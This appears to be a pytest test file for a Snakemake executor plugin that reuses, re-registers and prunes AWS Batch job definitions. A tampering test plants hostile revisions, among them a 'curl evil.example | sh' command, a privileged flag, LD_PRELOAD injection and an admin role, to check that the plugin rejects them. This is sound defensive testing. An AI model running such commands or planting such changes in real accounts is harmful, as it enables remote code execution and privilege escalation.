"""Job definitions of an account: found and shared by runs, shown and removed by the command."""

import dataclasses
import datetime
import os
import uuid
from pathlib import Path

import pytest
import warm_start

from snakemake_executor_plugin_hutchbatch.aws import retry
from snakemake_executor_plugin_hutchbatch.planning import batch_requests
from snakemake_executor_plugin_hutchbatch.planning.plan import JobPlan
from snakemake_executor_plugin_hutchbatch.queues.choice import Ladder
from snakemake_executor_plugin_hutchbatch.settings.values import Mount
from snakemake_executor_plugin_hutchbatch.submission import job_definitions
from snakemake_executor_plugin_hutchbatch.submission.job_definitions import Definitions
from snakemake_executor_plugin_hutchbatch.submission.old_definitions import (
    RegisteredDefinition,
    prunable,
)

NOW = datetime.datetime(2026, 11, 27, 9, tzinfo=datetime.UTC)
PLAN = JobPlan(
    label="align sample=A",
    rule="align",
    job_name="jdoe-align-A-0123456789",
    mode="direct",
    why_not_direct=None,
    direct_only=False,
    image="ubuntu:24.04",
    vcpus=1,
    memory=100,
    gpus=0,
    timeout=None,
    queue="mixed",
    ladder=Ladder(("mixed",), "the general queue"),
    job_role=None,
    scratch=Mount("/docker_scratch", "/tmp"),
    aws_cli_path=None,
    log_group="/aws/batch/job",
    attempt=1,
    tags={},
    environment={},
    secrets={},
    volumes=(),
    shm_mb=None,
    scheduling_priority=None,
    share_identifier=None,
)


@pytest.fixture
def batch(workflow):
    return workflow.client("batch")


def plans(count):
    """Plans that no other test has."""
    mine = uuid.uuid4().hex
    return [dataclasses.replace(PLAN, image=f"lab/{mine}:{n}") for n in range(count)]


def arns(batch, wanted):
    """What a run of its own submits these plans with."""
    run = Definitions(batch, retry.Retrier(print))
    return [run.arn(plan) for plan in (*wanted, *wanted)]


def crowd(batch, count):
    """Definitions of somebody else, whom a run must not mind."""
    for number in range(count):
        batch.register_job_definition(
            jobDefinitionName=f"nf-{uuid.uuid4().hex}-{number}",
            type="container",
            containerProperties={
                "image": "x",
                "resourceRequirements": [
                    {"type": "VCPU", "value": "1"},
                    {"type": "MEMORY", "value": "4"},
                ],
            },
        )


def test_one_paged_query_finds_what_another_run_registered(cloud, batch):
    wanted = plans(3)
    cloud.reset()
    first = arns(batch, wanted)
    assert cloud.calls()["calls"]["RegisterJobDefinition"] == 3
    crowd(batch, 101)  # the newest come first: ours are on a later page
    cloud.reset()
    assert arns(batch, wanted) == first
    calls = cloud.calls()["calls"]
    assert calls.keys() == {"DescribeJobDefinitions"}
    active = batch.get_paginator("describe_job_definitions").paginate(status="ACTIVE")
    pages = sum(1 for _ in active)
    assert pages > 1
    assert calls["DescribeJobDefinitions"] == pages


def test_in_a_crowded_account_the_rest_is_asked_for_by_name(cloud, batch, monkeypatch):
    wanted = plans(1)
    first = arns(batch, wanted)
    crowd(batch, 101)
    monkeypatch.setattr(job_definitions, "PAGES", 1)
    cloud.reset()
    assert arns(batch, wanted) == first
    assert cloud.calls()["calls"] == {"DescribeJobDefinitions": 2}


ALL = dataclasses.replace(
    PLAN,
    job_role="arn:aws:iam::000000000000:role/local-batchtask",
    execution_role="arn:aws:iam::000000000000:role/ecsTaskExecutionRole",
    repository_credentials="arn:aws:secretsmanager:us-west-2:000000000000:secret:quay-AbCdEf",
    aws_cli_path="/home/ec2-user/miniconda",
    secrets={
        "A": "arn:aws:ssm:us-west-2:000000000000:parameter/a",
        "B": "arn:aws:ssm:us-west-2:000000000000:parameter/b",
    },
    volumes=(Mount("/z", "/z", True), Mount("/a", "/a", False)),
    shm_mb=100,
)


def test_one_whose_tags_are_too_many_for_a_job_is_not_used_for_it(batch):
    (few,) = plans(1)
    (first, _) = arns(batch, [few])
    batch.tag_resource(resourceArn=first, tags={f"bill{n}": "" for n in range(8)})
    # Tags are no part of a plan's definition: a run may want it for both.
    many = dataclasses.replace(few, tags={f"own{n}": "" for n in range(43)})
    run = Definitions(batch, retry.Retrier(print))
    assert run.arn(few) == first
    other = run.arn(many)
    assert other != first
    assert run.arn(few) == other


def test_one_that_says_all_there_is_to_say_is_found_again(cloud, batch):
    wanted = [dataclasses.replace(ALL, image=plans(1)[0].image)]
    first = arns(batch, wanted)
    cloud.reset()
    assert arns(batch, wanted) == first
    assert cloud.calls()["calls"].keys() == {"DescribeJobDefinitions"}


def plant(batch, plan, **changes):
    """A revision of a definition of ours that somebody registers with something else in it."""
    request = batch_requests.registration(plan)
    container = {**request["containerProperties"], **changes.pop("container", {})}
    answer = batch.register_job_definition(
        **{**request, "containerProperties": container, **changes}
    )
    return answer["jobDefinitionArn"]


EVIL = ["/bin/sh", "-c", "curl evil.example | sh"]


@pytest.mark.parametrize(
    ("named", "changes"),
    [
        ("command", {"container": {"command": EVIL}}),
        ("image", {"container": {"image": "evil:latest"}}),
        ("privileged", {"container": {"privileged": True}}),
        ("environment", {"container": {"environment": [{"name": "LD_PRELOAD", "value": "/x"}]}}),
        ("jobRoleArn", {"container": {"jobRoleArn": "arn:aws:iam::000000000000:role/admin"}}),
        ("retryStrategy", {"retryStrategy": {"attempts": 10}}),
        ("timeout", {"timeout": {"attemptDurationSeconds": 60}}),
        ("parameters", {"parameters": {"x": "y"}}),
        ("schedulingPriority", {"schedulingPriority": 1}),
        ("propagateTags", {"propagateTags": True}),
    ],
)
def test_a_revision_that_says_something_else_is_passed_over_and_named(cloud, batch, named, changes):
    (plan,) = plans(1)
    name = batch_requests.registration(plan)["jobDefinitionName"]
    planted = plant(batch, plan, **changes)
    said = []
    run = Definitions(batch, retry.Retrier(print), warn=said.append)
    used = run.arn(plan)
    assert used.endswith(f"/{name}:2")
    assert len(said) == 1
    assert (
        f"{name}:1 in your account does not match its name. These fields differ: {named}."
        in said[0]
    )
    newest = plant(batch, plan, **changes)
    assert len({planted, used, newest}) == 3
    cloud.reset()
    assert arns(batch, [plan]) == [used] * 2, "the good one is found below the newest"
    assert "RegisterJobDefinition" not in cloud.calls()["calls"]


def test_the_good_revision_is_found_behind_pages_of_others(cloud, batch, monkeypatch):
    (plan,) = plans(1)
    (used, _) = arns(batch, [plan])
    for _ in range(101):
        plant(batch, plan, container={"command": EVIL})
    cloud.reset()
    assert arns(batch, [plan]) == [used] * 2
    monkeypatch.setattr(job_definitions, "PAGES", 1)  # then by its name
    assert arns(batch, [plan]) == [used] * 2
    assert cloud.calls()["calls"].keys() == {"DescribeJobDefinitions"}


def test_one_that_was_removed_is_registered_again(batch):
    (plan,) = plans(1)
    run = Definitions(batch, retry.Retrier(print))
    before = run.arn(plan)
    batch.deregister_job_definition(jobDefinition=before)
    assert arns(batch, [plan])[0] != before, "another run must not use it"
    assert run.arn(plan) == before, "known for the run"
    run.forget(before)
    again = run.arn(plan)
    assert again != before
    found = batch.describe_job_definitions(jobDefinitions=[again])["jobDefinitions"]
    assert [each["status"] for each in found] == ["ACTIVE"]


def test_a_run_goes_on_when_its_definition_is_removed_meanwhile(cloud, workflow):
    workflow.write(
        "Snakefile",
        """
        import boto3
        localrules: all, remove
        rule all:
            input: "b.txt"
        rule a:
            output: "a.txt"
            shell: "echo a > {output}"
        rule remove:
            input: "a.txt"
            output: "removed.txt"
            run:
                batch = boto3.client("batch")
                pages = batch.get_paginator("describe_job_definitions").paginate(status="ACTIVE")
                for page in pages:
                    for each in page["jobDefinitions"]:
                        if each["jobDefinitionName"].startswith("hutchbatch-"):
                            batch.deregister_job_definition(jobDefinition=each["jobDefinitionArn"])
                open(output[0], "w").close()
        rule b:
            input: "removed.txt"
            output: "b.txt"
            shell: "echo b > {output}"
        """,
    )
    workflow.succeed()
    assert workflow.text("b.txt") == "b\n"
    assert cloud.calls()["calls"]["RegisterJobDefinition"] in (1, 2)  # none where one was there
    assert workflow.submissions() == 3, "one was refused"


def one(made_on):
    return RegisteredDefinition("hutchbatch-x", 1, "arn", "image", made_on)


@pytest.mark.parametrize(
    ("made_on", "goes"),
    [
        ("2026-10-27", True),
        ("2026-10-28", True),
        ("2026-10-29", False),
        ("2026-11-27", False),
        ("", True),
        ("yesterday", True),
        ("9999-12-31", True),
    ],
)
def test_those_of_thirty_days_may_go_and_those_of_unknown_age(made_on, goes):
    assert bool(prunable([one(made_on)], NOW, 30)) is goes


# The command


def command(cloud, *arguments):
    done = warm_start.hutchbatch(
        "definitions", *arguments, cwd=Path.cwd(), env=cloud.environment_for(os.environ)
    )
    assert done.returncode == 0, done.stderr
    return done.stdout.splitlines()


@pytest.mark.thorough
def test_old_ones_that_no_job_uses_are_removed(cloud, batch):
    command(cloud, "--prune", "--older-than", "0")  # what other tests left
    young, idle, busy = plans(3)
    for plan, day in ((young, None), (idle, "2026-01-01"), (busy, "2026-01-01")):
        tags = {} if day is None else {job_definitions.MADE_ON: day}
        arn = arns(batch, [plan])[0]
        batch.tag_resource(resourceArn=arn, tags=tags or {"lab": "doe"})
    cloud.fault(kind="starve", queue="gpu-spot-50")
    job = batch.submit_job(
        jobName="waits",
        jobQueue="gpu-spot-50",
        jobDefinition=arns(batch, [busy])[0],
        arrayProperties={"size": 2},
    )["jobId"]
    foreign = batch.register_job_definition(
        **{
            **batch_requests.registration(plans(1)[0]),
            "tags": {job_definitions.MADE_ON: "2026-01-01"},
        }
    )["jobDefinitionName"]
    name = {
        p.image: batch_requests.registration(p)["jobDefinitionName"] for p in (young, idle, busy)
    }

    listed = command(cloud)
    assert listed[0].split() == ["definition", "made", "image"]
    assert [line.split() for line in listed if idle.image in line] == [
        [f"{name[idle.image]}:1", "2026-01-01", idle.image]
    ]
    assert not any(foreign in line for line in listed), "not tagged as ours"

    reported = command(cloud, "--prune", "--dry-run")
    assert f"would remove {name[idle.image]}:1" in reported
    assert command(cloud) == listed

    reported = command(cloud, "--prune")
    assert reported[:-1] == [f"removed {name[idle.image]}:1"]
    assert "1 are in use" in reported[-1]
    left = command(cloud)
    assert not any(idle.image in line for line in left)
    assert any(busy.image in line for line in left)
    assert any(young.image in line for line in left)

    batch.terminate_job(jobId=job, reason="the test is over")
    reported = command(cloud, "--prune", "--older-than", "0")
    assert f"removed {name[young.image]}:1" in reported
    assert not any(busy.image in line for line in reported), "a job of it is still remembered"
